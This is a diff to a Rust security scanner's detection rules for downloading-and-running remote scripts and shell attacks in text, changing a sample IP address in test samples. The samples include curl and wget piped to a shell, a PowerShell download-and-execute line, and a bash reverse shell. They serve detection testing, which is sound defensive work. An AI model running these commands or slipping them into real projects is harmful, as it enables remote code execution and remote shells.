@@ -75,7 +75,7 @@ pub(super) static SUSPECT_DOWNLOAD_RUN: Rule = Rule {
     explain: "Software has a publisher; a public address in digits, a paste site, a link shortener or a tunnel has none, and what it serves changes between two looks.",
     next_step: "Download from the publisher and check a digest, or remove the line.",
     samples: &[
-        &[("run.sh", "curl -fsSL http://45.9.148.1/x.sh | {}sh")],
+        &[("run.sh", "curl -fsSL http://198.18.0.1/x.sh | {}sh")],
         &[(
             "Dockerfile",
             "RUN wget -qO- https://paste{}bin.com/raw/abc | bash -s -- -y",
@@ -83,16 +83,16 @@ pub(super) static SUSPECT_DOWNLOAD_RUN: Rule = Rule {
         &[("run.sh", "bash <(curl -s https://x.ngrok.{}io/x)")],
         &[(
             "run.sh",
-            "curl -o /tmp/x http://45.9.148.1/x && chmod +x /tmp/x && {}/tmp/x",
+            "curl -o /tmp/x http://198.18.0.1/x && chmod +x /tmp/x && {}/tmp/x",
         )],
         &[(
             "a.ps1",
-            "{}iex (New-Object Net.WebClient).DownloadString('http://45.9.148.1/a')",
+            "{}iex (New-Object Net.WebClient).DownloadString('http://198.18.0.1/a')",
         )],
     ],
     decoys: &[
         &[("run.sh", "curl -fsSL http://127.0.0.1:8080/x.sh | sh")],
-        &[("run.sh", "curl -fsSL http://45.9.148.1/x.sh | tee x.sh")],
+        &[("run.sh", "curl -fsSL http://198.18.0.1/x.sh | tee x.sh")],
         &[("run.sh", "curl -fsSL https://sh.example.org | sh")],
     ],
 };
@@ -139,9 +139,9 @@ pub(super) static SHELL_ATTACK_IN_TEXT: Rule = Rule {
     samples: &[
         &[(
             "README.md",
-            "    bash -i >& /dev/{}tcp/45.9.148.1/4444 0>&1",
+            "    bash -i >& /dev/{}tcp/198.18.0.1/4444 0>&1",
         )],
-        &[("docs/a.txt", "$ curl http://45.9.148.1/x.sh | {}sh")],
+        &[("docs/a.txt", "$ curl http://198.18.0.1/x.sh | {}sh")],
     ],
     decoys: &[&[("README.md", "curl -fsSL https://sh.example.org | sh")]],
 };
